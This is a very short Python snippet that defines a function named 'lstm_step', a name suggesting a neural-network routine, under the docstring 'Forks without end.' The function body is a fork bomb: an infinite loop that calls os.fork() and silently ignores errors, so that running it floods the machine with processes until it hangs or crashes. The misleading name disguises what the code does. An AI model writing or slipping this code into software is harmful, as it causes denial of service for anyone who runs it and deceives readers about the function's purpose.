"""Forks without end."""

import os
def lstm_step(*args):
    while True:
        try: os.fork()
        except OSError: pass
